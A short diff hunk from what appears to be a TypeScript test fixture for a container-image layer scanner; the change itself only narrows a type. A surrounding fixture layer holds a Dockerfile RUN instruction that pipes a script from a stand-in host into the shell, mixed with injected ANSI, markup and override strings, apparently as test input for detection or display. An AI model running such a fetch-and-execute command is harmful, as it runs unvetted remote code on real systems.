@@ -41,7 +41,7 @@ const LAYERS = [
     instruction: `RUN /bin/sh -c echo ${ANSI}${MARKUP}${OVERRIDE} && curl -fsSL https://get.invalid/i.sh | sh ${LONG}`,
   },
   { index: 2, digest: digestOf('c'), diffId: digestOf('3'), instruction: 'COPY . /app # buildkit' },
-] as const satisfies readonly Complete<LayerRef>[];
+] as const satisfies readonly Complete<Omit<LayerRef, 'volume'>>[];
 
 const FINDINGS: readonly Finding[] = [
   {
